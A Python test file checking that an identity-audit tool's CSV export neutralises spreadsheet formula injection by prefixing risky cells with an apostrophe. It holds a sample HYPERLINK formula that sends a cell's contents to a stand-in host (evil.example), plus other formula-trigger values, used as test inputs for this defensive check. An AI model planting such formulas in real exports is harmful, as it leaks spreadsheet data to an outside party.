"""Spreadsheet formulas never reach a CSV iam writes as formulas."""

from __future__ import annotations

import csv
import io

import pytest

from iam import csvsafe
from iam.export import findings_csv
from iam.report import Finding

HYPERLINK = '=HYPERLINK("https://evil.example/?leak="&A1,"open")'


@pytest.mark.parametrize("value", [HYPERLINK, "+1+cmd", "-2+3", "@SUM(A1)", "\t=1", "\r=1"])
def test_a_cell_a_spreadsheet_would_evaluate_is_written_as_text(value: str) -> None:
    out = io.StringIO()
    writer = csvsafe.writer(out, ["name"])
    writer.writeheader()
    writer.writerow({"name": value})
    cell = next(csv.DictReader(io.StringIO(out.getvalue(), newline="\n")))["name"]
    assert cell == "'" + value
    assert csvsafe.restore(cell) == value


@pytest.mark.parametrize("value", ["ann", "o'brien", "'quoted", "a=b", "", "x-1"])
def test_ordinary_cells_are_left_as_they_are(value: str) -> None:
    assert csvsafe.neutralise(value) == value
    assert csvsafe.restore(value) == value


def test_the_sweep_csv_neutralises_every_column() -> None:
    finding = Finding(
        type="orphan",
        system="directory",
        account=HYPERLINK,
        entitlement="@group",
        why="-no person in HR",
        since=None,
        action="+disable",
    )
    rows = list(csv.reader(io.StringIO(findings_csv([finding]))))
    expected = ["orphan", "directory", "'" + HYPERLINK, "'@group", "'-no person in HR", "", "'+disable"]
    assert rows[1] == expected


def test_a_line_break_inside_a_value_stays_inside_its_cell() -> None:
    out = io.StringIO()
    writer = csvsafe.writer(out, ["name", "title"])
    writer.writeheader()
    writer.writerow({"name": "ann\rx", "title": "b\nc"})
    rows = list(csv.reader(io.StringIO(out.getvalue(), newline="")))
    assert rows == [["name", "title"], ["ann\rx", "b\nc"]]
